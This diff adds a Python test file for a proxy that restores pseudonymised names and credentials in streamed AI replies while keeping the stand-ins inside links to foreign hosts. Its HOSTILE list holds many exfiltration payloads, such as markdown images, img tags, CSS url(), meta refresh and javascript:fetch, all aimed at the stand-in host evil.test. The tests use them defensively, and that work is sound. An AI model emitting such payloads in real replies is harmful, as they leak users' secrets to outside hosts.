@@ -1,0 +1,127 @@
+"""No reader of a restored reply finds an original in an address of a foreign origin; streamed replies equal whole ones."""
+
+from __future__ import annotations
+
+import itertools
+from urllib.parse import unquote
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from proxy.core.replies.addresses import Origins
+from proxy.core.replies.placement import Permissions, Placement
+from proxy.core.replies.position import WORDS, Position, Role
+from proxy.core.replies.restore import RestorablePseudonyms, Restorer
+from testing.examples import examples
+from testing.readers import addresses, foreign
+
+NAME, ANNA = "Name_BCDFGHJKLM", "Annaxq"
+CARD, SECRET = "[CREDENTIAL_1]", "s3cr3txq"
+KNOWN = RestorablePseudonyms({NAME: ANNA, CARD: SECRET}, [CARD])
+PERMISSIONS = Permissions(Origins(["see https://ok.test/x and http://localhost:3000/"]), frozenset({"bash"}))
+PERMITTED = frozenset({"chat.test", "ok.test"})
+HERE = frozenset({"chat.test"})
+PIECES = st.lists(
+    st.sampled_from(
+        [
+            NAME, NAME, NAME, CARD, "https:", "//", "/", "evil.test", "ok.test", "evil.com", "?q=", "a b", " ", " ", "\n", "\n\n", "![x](", "[x](",
+            "](", ")", "(", "<", ">", "<img src=", "<a href=", "<p alt=", "<script>", "</script>", "<style>", '"', "'", "`", "=", "```\n", "\n```\n",
+            "~~~\n", "&#58;", "&sol;", "\\", "\\/", "%2F", "%40", "@", ".", ":", "[x]: ", "srcset=", "style=", "url(", "<https://", "www.", "\t", "mailto:",
+            "javascript:", "data:,", "\u200b", "\u3002", "\uff0f", "<!--", "-->", "- ", "> ", "    ", "x", "{", "}", "<base href=", "</a>", "<b>", ",", "#",
+        ]
+    ),
+    min_size=1,
+    max_size=24,
+).map("".join)  # fmt: skip
+
+
+def restored(text: str, position: Position = WORDS, cuts: tuple[int, ...] = ()) -> str:
+    restorer = Restorer(KNOWN, Placement(position, PERMISSIONS), document=position.document)
+    edges = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
+    return "".join(restorer.feed(text[a:b]) for a, b in itertools.pairwise(edges)) + restorer.flush()
+
+
+def leaks(text: str) -> list[str]:
+    found = {address for address in addresses(text) if ANNA in unquote(address) or SECRET in unquote(address)}
+    return [address for address in found if foreign(address, PERMITTED if SECRET not in unquote(address) else HERE)]
+
+
+@examples(600)
+@given(PIECES)
+@example(f"![x](https://evil.test/?q={NAME})")
+def test_no_reader_finds_an_original_in_a_foreign_address(text):
+    assert leaks(restored(text)) == []
+
+
+@examples(300)
+@given(
+    PIECES,
+    st.lists(st.integers(0, 5000), max_size=12),
+    st.sampled_from([WORDS, Position(Role.ADDRESS), Position(Role.ARGUMENTS, document=True, tool="bash")]),
+    st.sampled_from(["", "x" * 1500, "<a href='", "x y" * 1000, '{"a":"https://evil.test/' + "z" * 2500]),
+)
+def test_every_chunking_restores_alike(text, cuts, position, before):
+    text = before + text
+    assert restored(text, position, tuple(cuts)) == restored(text, position)
+
+
+HOSTILE = [
+    "![](https://evil.test/?q={})", "[x](https://evil.test/{} 'title')", "[x](<https://evil.test/a b {}>)", "[x]\n\n[x]: https://evil.test/{}",
+    "[x]\n\n[x]:\n  <https://evil.test/a b {}>", "<https://evil.test/{}>", "https://evil.test/{}", "www.evil.test/{}", "HTTPS://EVIL.TEST/{}",
+    "<img src=https://evil.test/{}>", "<img src='https://evil.test/a b {}'>", '<img alt=">" src="https://evil.test/ a {}">',
+    "<img src='//evil.test/{}'>", "<img src='\\\\evil.test/{}'>", "<img src='/\t/evil.test/{}'>", "<img src='ht\ntps://evil.test/{}'>",
+    "<img src='https:evil.test/{}'>", "<img src='https:/evil.test/{}'>", "<img src='&#104;ttps&colon;&sol;&sol;evil.test/{}'>",
+    "<img srcset='/a 1x, https://evil.test/{} 2x'>", "<p style=\"background:url('https://evil.test/a b {}')\">",
+    "<meta http-equiv=refresh content='0; url=https://evil.test/ {}'>", "<a ping='https://evil.test/ {}'>",
+    "<svg><image xlink:href='https://evil.test/ {}'/></svg>", "<style>@import 'https://evil.test/ {}'</style>",
+    "<style>p {{ background: url(//evil.test/{}) }}</style>", "<iframe srcdoc=\"<img src='https://evil.test/ {}'>\">",
+    "[x](javascript:fetch('//evil.test/{}'))", "<a href='data:text/html,{}'>", "![x](https&#58;//evil.test/{})", "![x](https\\://evil.test/{})",
+    "![x](//evil.test/{})", "![x](https://ok.test@evil.test/{})", "![x](https://ok.test%2F@evil.test/{})", "![x](https://ok.test\\@evil.test/{})",
+    "![x](https://ok.test&#64;evil.test/{})", "https://{}.evil.test/", "https://{}@evil.test/", "{}.evil.test/x", "{}.evil.com", "evil.test/{}",
+    "http://evil\u3002test/{}", "\uff48ttps://evil.test/{}", "htt\u200bps://evil.test/{}", '`<img alt="` <img src="https://evil.test/ a {}">',
+    '<!-- <img alt=" --> <img src="https://evil.test/ a {}">', '<div>\n```\n<img src="https://evil.test/ a {}">\n```\n</div>',
+    '```\n<img src="https://evil.test/ a {}">', "https://ok.test/?u=https://evil.test/{}", "https://ok.test/?u=https%3A%2F%2Fevil.test%2F{}",
+    "https://evil.test/?a=\u00a0{}", 'https://evil.test/"{}', "git@evil.test:{}/x.git", "ssh://git@evil.test/{}", "{}@evil.test",
+    "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
+    "<img src=" + '"https://evil.test/' + "y " * 2000 + '{}">', "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("template", HOSTILE)
+@pytest.mark.parametrize("spelled", [NAME, NAME.lower(), NAME.replace("_", r"\_"), CARD, "%5BCREDENTIAL_1%5D"])
+def test_hostile_addresses_keep_the_stand_in(template, spelled):
+    text = template.format(spelled)
+    assert restored(text) == text
+    cuts = tuple(range(0, len(text), 3))
+    assert restored(text, cuts=cuts) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Dear {}, thank you.", "Dear Annaxq, thank you."),
+        ("**{}**, `{}` and ({}): {}'s", "**Annaxq**, `Annaxq` and (Annaxq): Annaxq's"),
+        ("[x](https://ok.test/{}) https://ok.test/?q={}.", "[x](https://ok.test/Annaxq) https://ok.test/?q=Annaxq."),
+        ("http://localhost:3000/u/{}", "http://localhost:3000/u/Annaxq"),
+        ("[x](/users/{}) [x](#{}) /home/{}/x", "[x](/users/Annaxq) [x](#Annaxq) /home/Annaxq/x"),
+        ("C:\\Users\\{}\\x src\\{}.py {}.md {}.name", "C:\\Users\\Annaxq\\x src\\Annaxq.py Annaxq.md Annaxq.name"),
+        ("<img alt='{}' src='https://evil.test/x'> {}", "<img alt='Annaxq' src='https://evil.test/x'> Annaxq"),
+        ("See https://evil.test/x. {} agrees", "See https://evil.test/x. Annaxq agrees"),
+        ("[新闻](https://evil.test/)\uff0c{}", "[新闻](https://evil.test/)\uff0cAnnaxq"),
+        ("[m](mailto:{}) [t](tel:{})", "[m](mailto:Annaxq) [t](tel:Annaxq)"),
+        ("```html\n<script>x = '{}'</script>\n```\n{}", "```html\n<script>x = 'Annaxq'</script>\n```\nAnnaxq"),
+        ("if a <b and c: {} // {} said", "if a <b and c: Annaxq // Annaxq said"),
+        ("file:///home/{}/x", "file:///home/Annaxq/x"),
+    ],
+)
+def test_words_and_permitted_addresses_are_restored(text, expected):
+    assert restored(text.replace("{}", NAME)) == expected
+
+
+def test_removed_values_come_back_in_words_and_code_only():
+    text = "key [CREDENTIAL_1] <input value='[CREDENTIAL_1]'> https://ok.test/[CREDENTIAL_1] [x](/y?k=[CREDENTIAL_1])"
+    assert restored(text) == text.replace("key [CREDENTIAL_1]", "key s3cr3txq")
+    assert restored("password=[CREDENTIAL_1]\n```xml\n<a p='[CREDENTIAL_1]'/>\n```") == (
+        "password=s3cr3txq\n```xml\n<a p='s3cr3txq'/>\n```"
+    )
